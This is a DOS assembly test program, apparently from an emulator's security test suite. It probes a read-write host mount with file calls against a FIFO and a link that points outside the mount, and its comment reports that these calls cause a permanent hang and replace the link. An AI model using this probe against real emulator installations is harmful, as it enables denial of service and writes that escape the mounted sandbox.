; Attack on special host files in a read-write mount: PIPE is a FIFO,
; OUT.LNK a link to a file outside the mount, A.TXT a plain file. Create
; (3Ch) over the FIFO opened it read-write (a read then blocked forever),
; create-new (5Bh) likewise, delete (41h) and rename onto the hidden link
; (56h) replaced it. Prints each answer, then spins.
        org 100h
%include "attack.inc"
        say msg3c
        mov dx, pipe
        xor cx, cx
        mov ah, 3Ch
        int 21h
        call result
        jc .new
        mov bx, ax              ; opened: a read waits for a writer
        mov dx, buf
        mov cx, 1
        mov ah, 3Fh
        int 21h
.new:   say msg5b
        mov dx, pipe
        xor cx, cx
        mov ah, 5Bh
        int 21h
        call result
        say msg41
        mov dx, pipe
        mov ah, 41h
        int 21h
        call result
        say msg56
        mov dx, atxt
        push cs
        pop es
        mov di, outlnk
        mov ah, 56h
        int 21h
        call result
        say msg39
        mov dx, pipe
        mov ah, 39h
        int 21h
        call result
        jmp forever
pipe    db 'PIPE', 0
atxt    db 'A.TXT', 0
outlnk  db 'OUT.LNK', 0
msg3c   db 'create over FIFO: $'
msg5b   db 'create new over FIFO: $'
msg41   db 'delete FIFO: $'
msg56   db 'rename onto hidden link: $'
msg39   db 'mkdir over FIFO: $'
buf     db 0
        attack_lib
